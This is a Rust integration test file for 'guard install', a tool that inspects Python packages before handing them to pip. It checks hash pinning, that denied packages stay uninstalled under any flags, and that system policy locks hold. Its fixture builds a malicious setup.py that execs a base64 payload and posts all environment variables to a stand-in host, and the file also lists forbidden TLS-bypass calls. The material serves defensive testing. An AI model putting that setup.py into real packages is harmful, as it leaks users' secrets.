//! Security invariants of `guard install` (issue 7, item 6), each a test.
//! guard runs for real (not `--dry-run`) against a local index, with a
//! `--python` that is a wrapper: every interpreter query goes to the real
//! python3, but `-m pip …` only records its arguments, the requirements file
//! and the find-links directory guard hands over, then exits 0. So each test
//! sees exactly what pip would have installed, and nothing is installed.
//!
//! Already covered elsewhere, not repeated here: setup.py never runs during
//! resolution (tests/install.rs `canary_sdist_setup_py_never_runs`), nor at
//! install when denied (tests/e2e_install.rs), a file changed after inspection
//! stops the handoff (src/handoff.rs), `--trusted-host` is refused
//! (tests/install.rs `unsupported_pip_options_are_refused_clearly`).

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

mod common;

use common::{sdist, sha, wheel, Fault, Index};

struct Env {
    dir: tempfile::TempDir,
    index: Index,
    python: PathBuf,
    canary: PathBuf,
    evil_sha: String,
}

impl Env {
    fn project(&self) -> PathBuf {
        self.dir.path().join("project")
    }

    fn capture(&self) -> PathBuf {
        self.dir.path().join("pip-capture")
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_guard"));
        cmd.current_dir(self.project())
            .arg("install")
            .arg("--python")
            .arg(&self.python)
            .args(["--index-url", &self.index.url()])
            .arg("--cache-dir")
            .arg(self.dir.path().join("cache"))
            .args(["--timeout", "5"])
            .args(args)
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("GUARD_AUDIT_LOG", self.dir.path().join("audit.jsonl"))
            .env("GUARD_CONFIG_DIR", self.dir.path().join("config"))
            .env("GUARD_SYSTEM_POLICY", self.dir.path().join("system-policy.toml"))
            .env_remove("PIP_INDEX_URL")
            .env_remove("PIP_EXTRA_INDEX_URL")
            .env_remove("PIP_NO_INDEX")
            .stdin(Stdio::null());
        cmd
    }

    fn guard(&self, args: &[&str]) -> Output {
        let _ = std::fs::remove_dir_all(self.capture());
        self.command(args).output().unwrap()
    }

    /// The requirements file pip received, or `None` when pip never ran.
    fn pip_requirements(&self) -> Option<String> {
        std::fs::read_to_string(self.capture().join("requirements.txt")).ok()
    }
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A python3 wrapper whose `-m pip` records what it was given instead of installing.
fn fake_python(dir: &Path, capture: &Path) -> PathBuf {
    let path = dir.join("python");
    let script = format!(
        r#"#!/bin/sh
if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
    mkdir -p '{cap}'
    printf '%s\n' "$@" > '{cap}/argv'
    prev=""
    for a in "$@"; do
        case "$prev" in
            -r) cp "$a" '{cap}/requirements.txt' ;;
            --find-links) cp -r "$a" '{cap}/links' ;;
        esac
        prev="$a"
    done
    exit 0
fi
exec python3 "$@"
"#,
        cap = capture.display()
    );
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

fn setup() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("CANARY");
    let index = Index::start();
    index.add("good", wheel("good", "1.0", &[]), Fault::None);
    let setup_py = format!(
        "import os, base64, urllib.request\nopen({:?}, 'w').write('setup.py ran')\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil-pkg', version='1.0')\n",
        canary.display().to_string()
    );
    let evil = sdist(
        "evil-pkg",
        "1.0",
        &[
            ("setup.py", setup_py),
            (
                "PKG-INFO",
                "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n".into(),
            ),
        ],
    );
    let evil_sha = sha(&evil.1);
    index.add("evil-pkg", evil, Fault::None);
    // The build dependencies of the sdist (never run here: pip is the wrapper).
    index.add("setuptools", wheel("setuptools", "70.0", &[]), Fault::None);
    index.add("wheel", wheel("wheel", "0.43", &[]), Fault::None);
    std::fs::create_dir(dir.path().join("project")).unwrap();
    let python = fake_python(dir.path(), &dir.path().join("pip-capture"));
    Env {
        dir,
        index,
        python,
        canary,
        evil_sha,
    }
}

/// The bytes pip receives are the bytes guard inspected: the requirements file
/// pins each package to the sha256 of the served file, the audit log records
/// the same sha256 for the decision, and the find-links copy has those bytes.
#[test]
fn pip_gets_exactly_the_inspected_bytes_pinned_by_hash() {
    let env = setup();
    let (name, bytes) = wheel("lib", "2.0", &[]);
    let served = sha(&bytes);
    env.index.add("lib", (name.clone(), bytes.clone()), Fault::None);
    let out = env.guard(&["lib", "good"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let reqs = env.pip_requirements().expect("pip was run");
    let good = sha(&wheel("good", "1.0", &[]).1);
    assert_eq!(
        reqs.lines().collect::<Vec<_>>(),
        [
            format!("good==1.0 --hash=sha256:{good}"),
            format!("lib==2.0 --hash=sha256:{served}")
        ]
    );
    let argv = std::fs::read_to_string(env.capture().join("argv")).unwrap();
    for flag in ["--no-index", "--no-deps", "--require-hashes", "--isolated"] {
        assert!(argv.lines().any(|a| a == flag), "{flag} missing: {argv}");
    }
    let links = env.capture().join("links");
    assert_eq!(std::fs::read(links.join(&name)).unwrap(), bytes);
    assert_eq!(common::files_under(&links).len(), 2, "only the approved files");
    let audit = std::fs::read_to_string(env.dir.path().join("audit.jsonl")).unwrap();
    let lib: serde_json::Value = audit
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|r| r["package"] == "lib")
        .unwrap();
    assert_eq!(lib["sha256"], served.as_str());
    assert_eq!(lib["decision"], "approved");
}

/// No flag, environment or answer installs a `deny`; only a policy allow
/// entry for that exact package does.
#[test]
fn deny_is_never_installed_by_any_flag_combination() {
    let env = setup();
    let loose = env.dir.path().join("loose.toml");
    std::fs::write(
        &loose,
        "[install]\nnon_interactive = \"allow\"\nsdist = \"allow\"\n\n[[allow]]\nname = \"evil-pkg\"\nversion = \"2.0\"\nreason = \"another version\"\n\n[[allow]]\nname = \"evil-pkg2\"\nreason = \"another name\"\n",
    )
    .unwrap();
    let loose = loose.to_str().unwrap();
    let combos: &[&[&str]] = &[
        &[],
        &["--yes"],
        &["-y", "--no-input", "-q"],
        &["--yes", "--ignore-installed", "--upgrade", "--pre", "--no-cache"],
        &["--force-reinstall", "--yes"],
        &["--yes", "--policy", loose],
        &[
            "--policy",
            loose,
            "--only-binary",
            ":none:",
            "--user",
            "--break-system-packages",
        ],
    ];
    for extra in combos {
        for reqs in [&["evil-pkg"][..], &["good", "evil-pkg==1.0"]] {
            let mut args: Vec<&str> = reqs.to_vec();
            args.extend_from_slice(extra);
            let out = env.guard(&args);
            assert_eq!(out.status.code(), Some(1), "{args:?}\n{}", text(&out));
            assert!(String::from_utf8_lossy(&out.stdout).contains("DENY"), "{}", text(&out));
            assert!(
                env.pip_requirements().is_none(),
                "{args:?}: pip was run\n{}",
                text(&out)
            );
            assert!(!env.canary.exists());
        }
    }
    // GUARD_* and PIP_* variables do not change it either.
    let out = env
        .command(&["evil-pkg", "--yes"])
        .env("PIP_TRUSTED_HOST", "127.0.0.1")
        .env("PIP_NO_INPUT", "1")
        .env("PIP_YES", "1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(env.pip_requirements().is_none());

    // The exact package allowed by policy (name, version and sha256): installed.
    std::fs::write(
        env.project().join("guard.toml"),
        format!(
            "[install]\nsdist = \"allow\"\n\n[[allow]]\nname = \"evil-pkg\"\nversion = \"1.0\"\nsha256 = \"{}\"\nreason = \"reviewed by hand\"\n",
            env.evil_sha
        ),
    )
    .unwrap();
    let out = env.guard(&["evil-pkg"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let reqs = env.pip_requirements().expect("pip was run");
    assert!(
        reqs.contains(&format!("evil-pkg==1.0 --hash=sha256:{}", env.evil_sha)),
        "{reqs}"
    );
    assert!(!env.canary.exists(), "guard itself never runs setup.py");
}

/// A key the system policy locks cannot be loosened by a project `guard.toml`,
/// the user's policy or `--policy`; tightening is still fine.
#[test]
fn locked_system_policy_keys_cannot_be_loosened() {
    let env = setup();
    std::fs::write(
        env.dir.path().join("system-policy.toml"),
        "locked = [\"allow\", \"install.non_interactive\", \"rules.disable\", \"verdict.deny_at\"]\n\n[install]\nnon_interactive = \"deny\"\n",
    )
    .unwrap();
    let loosening = format!(
        "[verdict]\ndeny_at = \"critical\"\n[rules]\ndisable = [\"exec-decoded-payload\", \"exfiltration\", \"install-network\"]\n[install]\nnon_interactive = \"allow\"\nsdist = \"allow\"\n\n[[allow]]\nname = \"evil-pkg\"\nversion = \"1.0\"\nsha256 = \"{}\"\nreason = \"trying to get around the system policy\"\n",
        env.evil_sha
    );
    let user_dir = env.dir.path().join("config");
    std::fs::create_dir_all(&user_dir).unwrap();
    let explicit = env.dir.path().join("explicit.toml");
    std::fs::write(&explicit, &loosening).unwrap();
    for layer in ["project", "user", "explicit"] {
        let _ = std::fs::remove_file(env.project().join("guard.toml"));
        let _ = std::fs::remove_file(user_dir.join("policy.toml"));
        let mut args = vec!["evil-pkg", "--yes"];
        match layer {
            "project" => std::fs::write(env.project().join("guard.toml"), &loosening).unwrap(),
            "user" => std::fs::write(user_dir.join("policy.toml"), &loosening).unwrap(),
            _ => args.extend(["--policy", explicit.to_str().unwrap()]),
        }
        let out = env.guard(&args);
        assert_eq!(out.status.code(), Some(1), "{layer}: {}", text(&out));
        assert!(env.pip_requirements().is_none(), "{layer}: pip was run");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("locked by the system policy"), "{layer}: {}", text(&out));
    }
    // Without the locks the same file would install it: the test can fail.
    std::fs::write(env.dir.path().join("system-policy.toml"), "").unwrap();
    let out = env.guard(&["evil-pkg", "--policy", explicit.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(env.pip_requirements().is_some());
}

/// Certificate checks cannot be switched off: nothing in src/ disables them.
#[test]
fn no_source_disables_certificate_verification() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let forbidden = [
        "danger_accept_invalid_certs",
        "danger_accept_invalid_hostnames",
        "dangerous()",
        "tls_built_in_root_certs(false)",
        "NoCertificateVerification",
    ];
    let mut checked = 0;
    for file in common::files_under(&root) {
        if file.extension().is_some_and(|e| e == "rs") {
            let text = std::fs::read_to_string(&file).unwrap();
            checked += 1;
            for f in forbidden {
                assert!(!text.contains(f), "{} uses {f}", file.display());
            }
        }
    }
    assert!(checked > 20, "only {checked} source files found");
}
